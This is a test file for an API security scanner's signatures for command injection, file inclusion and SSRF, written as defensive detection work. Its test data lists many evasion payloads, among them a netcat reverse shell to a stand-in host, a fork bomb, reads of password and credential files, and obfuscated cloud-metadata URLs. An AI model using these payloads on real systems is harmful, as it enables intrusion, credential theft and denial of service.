"""The command injection, file inclusion and SSRF signatures fire on each evasion technique they
cover, and stay silent on the API values that look like them (webhook and callback URLs, REST
paths, data URIs, prose with command words)."""

from __future__ import annotations

import re
from functools import cache

import hyperscan
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apishield.checks.decode import variants
from apishield.checks.gate import SUSPICIOUS
from apishield.checks.matcher import default_matcher
from apishield.checks.signatures import SIGNATURES
from apishield.checks.signatures.base import confine
from apishield.checks.signatures.commands import PROBES, PROGRAMS, WORDS, spelled

SHELL_CLASSES = {"rce", "lfi", "rfi", "ssrf", "log4shell", "crlf"}

TECHNIQUES: tuple[tuple[str, str], ...] = (
    # command names the shell still runs once quotes, backslashes and empty expansions go
    ("inj.rce.shell-evasion", ";w'h'o'a'm'i"),
    ("inj.rce.shell-evasion", ";c$@at /etc/hosts"),
    ("inj.rce.shell-evasion", "|wh\\\noami"),
    ("inj.rce.shell-evasion", "ho$()st; pi$()ng 192.0.2.1"),
    ("inj.rce.leading-command", "una$$me -a"),
    ("inj.rce.leading-command", "cu$@rl e.example"),
    # parameter, tilde and history expansion
    ("inj.rce.shell-evasion", "${PATH:0:1}etc${PATH:0:1}hosts"),
    ("inj.rce.shell-evasion", "${HOME//a/b}"),
    ("inj.rce.shell-evasion", "~+"),
    ("inj.rce.shell-evasion", "x;~-2"),
    ("inj.rce.shell-evasion", "!-3"),
    # a command assembled in variables, assignments before a command, globbed binaries
    ("inj.rce.shell-evasion", "d=/etc&&f=/hosts&&c=cat&&$c $d$f"),
    ("inj.rce.shell-evasion", ";LANG=C uname -a"),
    ("inj.rce.shell-evasion", "x;/bin/ca? /et*/hosts"),
    ("inj.rce.shell-evasion", "/usr/bin/w[h]oami"),
    # separators beyond ; and |
    ("inj.rce.chained-command", "`cat<<<uname`"),
    ("inj.rce.chained-command", "a <(ifconfig)"),
    ("inj.rce.chained-command", "; timeout 5 nslookup e.example"),
    ("inj.rce.chained-command", "|$u wget e.example"),
    ("inj.rce.chained-command", "cd /;cd tmp;column notes"),
    ("inj.rce.chained-command", ";tcpdump -i any"),
    ("inj.rce.chained-command", "; ssh-copy-id user@e.example"),
    ("inj.rce.chained-command", "&& certutil.exe -f x"),
    ("inj.rce.chained-command", "&ifconfig"),
    ("inj.rce.chained-command", ";ifconfig,eth0"),
    ("inj.rce.chained-command", "tail -f /var/tmp/x"),
    ("inj.rce.binary-path", "/usr/bin/aria2c"),
    ("inj.rce.brace-expansion", "alias -p"),
    # a value that is a probe command
    ("inj.rce.leading-command", "whoami"),
    ("inj.rce.leading-command", "ls notes backups"),
    ("inj.rce.leading-command", "ansible-inventory --list"),
    ("inj.rce.leading-command", "nohup who"),
    ("inj.rce.leading-command", "set -o history"),
    ("inj.rce.leading-command", "ps aux"),
    ("inj.rce.leading-command", "dd if=/dev/zero of=x"),
    ("inj.rce.leading-command", "python3 exploit.py"),
    ("inj.rce.leading-command", "curl e.example"),
    ("inj.rce.leading-command", "flock -u / whoami"),
    # Windows and PowerShell
    ("inj.rce.powershell", ";iwmi -class Win32_process -name Create"),
    ("inj.rce.powershell", "| sls password"),
    # substitution, brace expansion, function definitions
    ("inj.rce.command-substitution", "`touch /tmp/x`"),
    ("inj.rce.command-substitution", "%x(ls -al /)"),
    ("inj.rce.brace-expansion", "{,$'whoami',}"),
    ("inj.rce.brace-expansion", "alias +x+ a=b"),
    ("inj.rce.brace-expansion", "${cmd}"),
    ("inj.rce.brace-expansion", "{/bin/cat,/etc/hosts}"),
    ("inj.rce.shellshock", ":(){ :|:& };:"),
    ("inj.rce.shellshock", "() { _; } >_[$($())] { id; }"),
    ("inj.rce.shell-dash-c", ";\\n.shell nc e.example 9 -e sh"),
    # traversal in every encoding a lenient decoder accepts
    ("inj.lfi.traversal", "/%c0%ae%c0%ae/%c0%ae%c0%ae/x"),
    ("inj.lfi.traversal", "%uff0e%uff0e%u2215%uff0e%uff0e%u2215x"),
    ("inj.lfi.traversal", "..%u2216..%u2216x"),
    ("inj.lfi.traversal", "/.%00./.%00./x"),
    ("inj.lfi.traversal", "0x2e0x2e0x2f"),
    ("inj.lfi.traversal", "/.../x"),
    # absolute paths to sensitive files, however the separators are written
    ("inj.lfi.sensitive-file", "etc/shadow"),
    ("inj.lfi.sensitive-file", "/etc//./passwd"),
    ("inj.lfi.sensitive-file", "C:/Windows/win.ini"),
    ("inj.lfi.sensitive-file", "d:\\winnt\\repair\\sam"),
    ("inj.lfi.sensitive-file", "wp-config.php.bak"),
    ("inj.lfi.dotfile", "/home/u/.python_history"),
    ("inj.lfi.dotfile", "/.git-credentials"),
    ("inj.lfi.system-path", "path=/proc/cpuinfo"),
    # remote inclusion
    ("inj.rfi.remote-include", "file://e.example/shell.txt?"),
    ("inj.rfi.remote-include", "//e.example/shell.txt?"),
    ("inj.rfi.remote-include", "page=http://e.example/x.txt?"),
    ("inj.rfi.ip-script", "https://[2001:db8::7]/gecko.php"),
    ("inj.rfi.ip-script", "http://198.51.100.7:81/a.jpg?"),
    ("inj.rfi.ip-url", "http://198.51.100.7"),
    ("inj.rfi.ip-url", "http://198.51.100.7:8080/?"),
    ("inj.rfi.ip-url", "\\\\198.51.100.7\\share\\x"),
    ("inj.rfi.include-param", "mosConfig_absolute_path"),
    # SSRF: rebinding names, Unicode dots, parser tricks, scheme-less hosts
    ("inj.ssrf.loopback-url", "http://7f000001.c0a80001.rbndr.us/"),
    ("inj.ssrf.loopback-url", "http://app.localtest.me/"),
    ("inj.ssrf.loopback-url", "http://printer.localhost:8080/"),
    ("inj.ssrf.loopback-url", "http://127.0.0.1./admin"),
    ("inj.ssrf.loopback-url", "http://e.example#@127.0.0.1/"),
    ("inj.ssrf.loopback-url", "http://\\l\\o\\c\\a\\l\\h\\o\\s\\t/"),
    ("inj.ssrf.loopback-url", "http://kubernetes.default.svc/api"),
    ("inj.ssrf.metadata-url", "http://169\u3002254\u3002169\u3002254/"),
    ("inj.ssrf.metadata-url", "http://\u246f\u2468\uff61\u2461\u2464\u2463\uff61\u246f\u2468\uff61\u2461\u2464\u2463/"),
    ("inj.ssrf.metadata-url", "http://192.0.0.192/latest/"),
    ("inj.ssrf.metadata-url", "http://rancher-metadata/latest"),
    ("inj.ssrf.bare-internal-host", '<a href="localhost/admin">'),
    ("inj.ssrf.bare-internal-host", "url=kubernetes.default.svc/api"),
)  # fmt: skip

LOOK_ALIKES = (
    # callback and webhook URLs from real API specs
    "https://my-app.example.net/handle_call.php?lang=en-US",
    "http://203.0.113.40:8080/webhooks/status",
    "http://203.0.113.40:8080/hooks/x.plain",
    "https://hooks.example.com/notify/robots.txt?x=1",
    "https://[2001:db8::1]:8443/callback/events",
    "https://api.example.com/v1/users/42/files",
    "https://www.example.com/localhost/guide",
    "https://ti.me/abc",
    # data URIs (Discord's documented image format)
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
    "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQ",
    "text/plain;charset=utf-8",
    # REST paths, file paths and names in ordinary use
    "/dev/users/42",
    "/v1/files/report..pdf",
    "/home/alice/documents/report-2024.pdf",
    "C:\\Windows\\System32\\drivers",
    "C:\\Program Files\\Example\\app.exe",
    "I use .NET and .NET Core",
    "lastlog",
    "lastlogin",
    "environment",
    # prose and markdown with command words
    "Ping me tomorrow",
    "time warner",
    "Times & Schedule",
    "R&D team; see the cat photos",
    "Great; I'd say yes",
    "hello; time he came",
    "a hero; more than",
    "kills foo bar",
    "curl up with a good book",
    "Who am I? A quiz",
    "who-am-I quiz",
    "Valid values: `start`, `end`, `join`, `leave`, `mute`, `w`",
    "{ user { id name } }",
    "/users/{id}/files/{file_id}",
    "Hello {{first_name}}",
    "Price (~-3 dB) and (~+5%)",
    "Wow!! That was great!",
    "a;$3 b;$4 c;$5",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 Chrome/120.0 Mobile Safari/537.36",
    "See the WordPress docs on localhost development",
    "ls",
    "PS I love you",
    "Top 10.5 picks",
    "More -ish than expected",
    "data:image/png;base64,AAAA,BBBB",
)


def _fired(text: str) -> set[str]:
    return {sig.rule_id for _, sig in default_matcher().scan(variants(text))}


@pytest.mark.parametrize(("rule_id", "example"), TECHNIQUES)
def test_signature_fires_on_evasion(rule_id: str, example: str) -> None:
    assert rule_id in _fired(example)


@pytest.mark.parametrize("text", LOOK_ALIKES)
def test_look_alike_stays_silent(text: str) -> None:
    assert {rule for rule in _fired(text) if rule.split(".")[1] in SHELL_CLASSES} == set()


def test_spelled_name_allows_shell_removed_characters() -> None:
    import re

    pattern = re.compile(spelled("whoami"), re.IGNORECASE)
    assert pattern.fullmatch("w'h\"o\\am$@i")
    assert pattern.fullmatch("WHOAMI")
    assert not pattern.fullmatch("who ami")


def test_short_names_are_not_spelled_with_gaps() -> None:
    """`i'd` must not read as `id`."""
    assert spelled("id") == "id"


def test_vocabularies_do_not_overlap() -> None:
    assert not set(PROGRAMS) & set(WORDS)
    assert set(PROBES) <= set(PROGRAMS)


@cache
def _single(pattern: str, flags: int) -> hyperscan.Database:
    database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
    database.compile(expressions=[confine(pattern).encode()], flags=flags)
    return database


def _fires(database: hyperscan.Database, text: str) -> bool:
    found: list[int] = []
    database.scan(f"\n{text}\n".encode(), match_event_handler=lambda *match: found.append(1))
    return bool(found)


_LEADING = next(sig for sig in SIGNATURES if sig.rule_id == "inj.rce.leading-command")
_NAMES = st.sampled_from(
    (*PROGRAMS, *PROBES, *WORDS, "ls", "ps", "dd", "set", "ansible-vault", "zcat", "nohup")
)
_ARGS = st.sampled_from(
    ("-la", "--all", "/etc/hosts", "x.sh", "e.example", "https://e.example/x", "5", "if=/dev/sda")
)
_SUSPICIOUS = re.compile("|".join(SUSPICIOUS), re.IGNORECASE)


@settings(max_examples=2000, deadline=None)
@given(
    lead=st.sampled_from(("", " ", "/bin/", "/usr/local/bin/", "./", "sudo ", "timeout 5 ")),
    name=_NAMES,
    gap=st.sampled_from(("", " ", "  ", "&", ".exe ", "\t")),
    args=st.lists(_ARGS, max_size=3).map(" ".join),
    head=st.sampled_from(("", "x ", "run ")),
)
def test_the_gate_form_of_leading_command_matches_wherever_it_does(
    lead: str, name: str, gap: str, args: str, head: str
) -> None:
    """The gate scans `gate` instead of the pattern: in text with none of the SUSPICIOUS
    characters it must fire wherever the pattern fires, or the gate would hide an attack."""
    text = f"{head}{lead}{name}{gap}{args}"
    if _SUSPICIOUS.search(text):
        return  # the gate is loud on this text whatever the signature
    if _fires(_single(_LEADING.pattern, _LEADING.flags), text):
        _FIRED.append(text)
        assert _fires(_single(_LEADING.gate, _LEADING.flags), text), text


_FIRED: list[str] = []


def test_the_generated_texts_include_commands_the_signature_fires_on() -> None:
    """The property above is only as good as its examples: many of them must be attacks."""
    test_the_gate_form_of_leading_command_matches_wherever_it_does()
    assert len(set(_FIRED)) >= 100
